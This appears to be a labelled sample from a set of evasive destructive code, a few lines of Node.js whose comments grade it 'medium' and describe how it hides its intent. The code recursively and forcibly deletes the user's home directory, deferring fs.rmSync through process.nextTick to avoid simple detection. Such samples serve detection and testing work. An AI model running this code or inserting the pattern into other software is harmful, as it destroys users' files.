// evasion: home directory from os.userInfo(); fs.rmSync handed to process.nextTick together with its arguments
// grade: medium; does: delete
const fs = require('fs');
const os = require('os');

const { homedir } = os.userInfo();
process.nextTick(fs.rmSync, homedir, { recursive: true, force: true });
